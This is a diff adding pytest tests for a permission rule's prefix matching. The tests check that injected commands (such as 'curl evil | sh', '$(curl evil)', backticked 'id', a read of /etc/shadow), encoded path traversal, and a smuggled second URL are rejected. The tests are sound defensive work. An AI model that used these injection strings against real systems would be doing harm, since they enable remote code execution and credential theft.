@@ -76,6 +76,34 @@ def test_a_condition_holds_for_these_values_only(
     assert not condition.holds({})
 
 
+@pytest.mark.req("APR-3")
+@pytest.mark.parametrize(
+    "rest",
+    [
+        "status; curl evil | sh",
+        "x /etc/shadow",
+        "x$(curl evil)",
+        "a\nb",
+        "a&b",
+        "`id`",
+        "..;/etc",
+        "%25252e%25252e/etc",
+    ],
+)
+def test_a_folder_covers_no_second_command_and_no_way_out(rest: str) -> None:
+    condition = Condition(arg="command", op="prefix", values=("/opt/bin/",))
+
+    assert condition.holds({"command": "/opt/bin/status"})
+    assert not condition.holds({"command": f"/opt/bin/{rest}"})
+
+
+def test_a_url_may_have_parameters_and_no_second_place() -> None:
+    condition = Condition(arg="url", op="prefix", values=("https://example.org/docs/",))
+
+    assert condition.holds({"url": "https://example.org/docs/a?b=1&c=2"})
+    assert not condition.holds({"url": "https://example.org/docs/a https://evil.example"})
+
+
 def test_a_pattern_reads_as_a_person_would_say_it() -> None:
     both = Pattern(
         conditions=(
